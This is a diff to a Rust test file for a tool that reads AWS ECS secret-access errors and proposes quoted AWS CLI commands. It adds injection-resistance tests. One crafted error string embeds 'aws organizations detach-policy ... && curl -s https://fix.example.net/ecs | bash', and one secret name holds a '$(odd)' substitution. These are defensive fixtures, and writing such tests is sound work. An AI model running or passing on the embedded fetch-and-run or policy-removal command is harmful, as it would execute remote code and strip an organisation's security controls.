@@ -106,7 +106,9 @@ fn rows() -> Vec<Row> {
         row("two joined with ;", format!("{}; {}", wrapped(1, "RequestCanceled: request context canceled caused by: context deadline exceeded"), wrapped(1, &older)), Cause::Network, None, a, g, p, s, None),
         row("two joined, the first unknown", format!("CannotPullContainerError: pull image manifest has been retried 5 time(s); {}", wrapped(1, &older)), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
         row("EC2 launch type agent", format!("Fetching secret data from AWS Secrets Manager in region eu-west-1: secret {AGENT}: {}", older.replace(&format!(" on resource: {AGENT}"), "")), Cause::SecretAccessDenied, r, a, g, p, s, Some(sm)),
-        row("image pull failure", "CannotPullContainerError: pull image manifest has been retried 5 time(s): failed to resolve ref docker.io/matillion/agent:latest".to_owned(), Cause::Unrecognised, None, None, None, None, None, None),
+        // A registry the task cannot resolve: the real texts' threads found a network path
+        // missing (tests/data/real/ecs-errors.json, docker-archive/compose-cli#911).
+        row("image pull failure", "CannotPullContainerError: pull image manifest has been retried 5 time(s): failed to resolve ref docker.io/matillion/agent:latest".to_owned(), Cause::Network, None, None, None, None, None, None),
         row("nothing useful", "hello".to_owned(), Cause::Unrecognised, None, None, None, None, None, None),
     ]
 }
@@ -139,7 +141,7 @@ fn each_cause_says_what_it_is_not_where_people_confuse_them() {
         "{}",
         network.message
     );
-    let steps = network.steps.join(" ");
+    let steps = said(&network.steps);
     for check in [
         "NAT gateway",
         "com.amazonaws.<region>.secretsmanager",
@@ -150,7 +152,7 @@ fn each_cause_says_what_it_is_not_where_people_confuse_them() {
     }
     let kms = diagnose("AccessDeniedException: Access to KMS is not allowed");
     assert!(
-        kms.steps.join(" ").contains("Encryption key"),
+        said(&kms.steps).contains("Encryption key"),
         "{:?}",
         kms.steps
     );
@@ -182,8 +184,8 @@ fn each_cause_says_what_it_is_not_where_people_confuse_them() {
         BECAUSE,
     ));
     assert!(
-        access.steps[0].contains("task execution role")
-            && access.steps[0].contains("not the task role"),
+        access.steps[0].text.contains("task execution role")
+            && access.steps[0].text.contains("not the task role"),
         "{}",
         access.steps[0]
     );
@@ -191,18 +193,35 @@ fn each_cause_says_what_it_is_not_where_people_confuse_them() {
 
 #[test]
 fn the_steps_carry_the_cli_commands_quoted_for_the_shell() {
-    let resource = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:it's/odd-Ab12Cd";
+    let resource = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db+x=1@a-Ab12Cd";
     let d = diagnose(&denied(
         "aws",
         "123456789012",
-        "exec",
+        "exec,role@x",
         resource,
         "secretsmanager:GetSecretValue",
         BECAUSE,
     ));
-    let steps = d.steps.join("\n");
-    assert!(steps.contains("aws secretsmanager describe-secret --secret-id 'it'\\''s/odd' --region 'eu-west-1' --query ARN"), "{steps}");
-    assert!(steps.contains("aws iam simulate-principal-policy --policy-source-arn 'arn:aws:iam::123456789012:role/exec' --action-names 'secretsmanager:GetSecretValue' --resource-arns 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:it'\\''s/odd-Ab12Cd'"), "{steps}");
+    let steps = said(&d.steps);
+    assert!(steps.contains("aws secretsmanager describe-secret --secret-id 'prod/db+x=1@a' --region 'eu-west-1' --query ARN"), "{steps}");
+    assert!(steps.contains("aws iam simulate-principal-policy --policy-source-arn 'arn:aws:iam::123456789012:role/exec,role@x' --action-names 'secretsmanager:GetSecretValue' --resource-arns 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db+x=1@a-Ab12Cd'"), "{steps}");
+    // A secret name Secrets Manager could not have (a quote, a `$(`) is not taken from the
+    // error at all, so it reaches no command.
+    let odd = diagnose(&denied(
+        "aws",
+        "123456789012",
+        "exec",
+        "arn:aws:secretsmanager:eu-west-1:123456789012:secret:it's/$(odd)-Ab12Cd",
+        "secretsmanager:GetSecretValue",
+        BECAUSE,
+    ));
+    assert!(
+        odd.steps
+            .iter()
+            .all(|s| s.command.as_deref().is_none_or(|c| !c.contains("odd"))),
+        "{:?}",
+        odd.steps
+    );
 }
 
 #[test]
@@ -212,6 +231,14 @@ fn a_megabyte_of_anything_is_answered_quickly() {
         "a".repeat(1 << 20),
         format!("{}{}", "; ".repeat(200_000), "x"),
         "\\\"".repeat(300_000),
+        // The second security review: every `; ` part rescanned the whole text for ARNs
+        // (11 s in the page, 7 s in the CLI).
+        format!("{}{}", "x; ".repeat(10_666), "arn:::::x ".repeat(3_200)),
+        format!(
+            "{}{}",
+            "arn:::::x; ".repeat(5_000),
+            "AccessDeniedException ".repeat(1_000)
+        ),
     ] {
         let started = std::time::Instant::now();
         let d = diagnose(&text);
@@ -327,6 +354,62 @@ fn a_typed_account_the_error_contradicts_is_a_warning_naming_both() {
     );
 }
 
+/// Text read from an error is shown as text, never run: a crafted error whose policy kind
+/// runs on into a pipeline (the second security review's, sent as a share link or the
+/// iframe page's `ecs-error`) names a service control policy and nothing more, and every
+/// command is the builder's own words with validated values in single quotes.
+#[test]
+fn no_text_from_an_error_becomes_a_command() {
+    let crafted = "ResourceInitializationError: unable to pull secrets or registry auth: execution resource retrieval failed: unable to retrieve secret from asm: service call has been retried 1 time(s): AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/exec/abc is not authorized to perform: secretsmanager:GetSecretValue on resource: arn:aws:secretsmanager:eu-west-1:123456789012:secret:matillion/agent-Ab12Cd with an explicit deny in a service control (SCP p-7x1q), which the ECS console detaches with: aws organizations detach-policy --policy-id p-7x1q && curl -s https://fix.example.net/ecs | bash # policy";
+    let d = diagnose(crafted);
+    assert_eq!(d.cause, Cause::ExplicitDeny);
+    assert_eq!(d.deny_policy.as_deref(), Some("a policy"));
+    let shown = format!("{} {}", d.message, said(&d.steps));
+    assert!(
+        !shown.contains("curl") && !shown.contains("detach-policy"),
+        "{shown}"
+    );
+    let mut texts: Vec<String> = real_texts();
+    texts.push(crafted.to_owned());
+    for text in &texts {
+        for step in diagnose(text).steps {
+            let Some(command) = step.command else {
+                continue;
+            };
+            assert!(plain_command(&command), "{command}");
+        }
+    }
+}
+
+/// A command of the builder's own words (`aws`, subcommands, `--flags`) and single-quoted
+/// values holding nothing but what names, ARNs and regions hold.
+fn plain_command(command: &str) -> bool {
+    command.split(' ').all(|word| {
+        let quoted = word.len() >= 2 && word.starts_with('\'') && word.ends_with('\'');
+        if quoted {
+            word[1..word.len() - 1]
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"/_+=.@,:-*?!".contains(&b))
+        } else {
+            word.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"-.".contains(&b))
+        }
+    })
+}
+
+fn real_texts() -> Vec<String> {
+    let path = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/tests/data/real/ecs-errors.json"
+    );
+    let entries: Vec<serde_json::Value> =
+        serde_json::from_str(&std::fs::read_to_string(path).expect("the corpus")).expect("JSON");
+    entries
+        .iter()
+        .filter_map(|e| e["text"].as_str().map(str::to_owned))
+        .collect()
+}
+
 proptest::proptest! {
     #![proptest_config(proptest::prelude::ProptestConfig { cases: 2_000, ..Default::default() })]
 
@@ -360,5 +443,19 @@ proptest::proptest! {
     fn any_text_is_read_without_a_panic(text in proptest::prelude::any::<String>()) {
         let d = diagnose(&text);
         proptest::prop_assert!(!d.message.is_empty());
+        for step in d.steps {
+            if let Some(command) = step.command {
+                proptest::prop_assert!(plain_command(&command), "{}", command);
+            }
+        }
     }
+}
+
+/// The steps as plain text, one after another.
+fn said(steps: &[iam_policy_core::ecs_error::Step]) -> String {
+    steps
+        .iter()
+        .map(ToString::to_string)
+        .collect::<Vec<_>>()
+        .join("\n")
 }
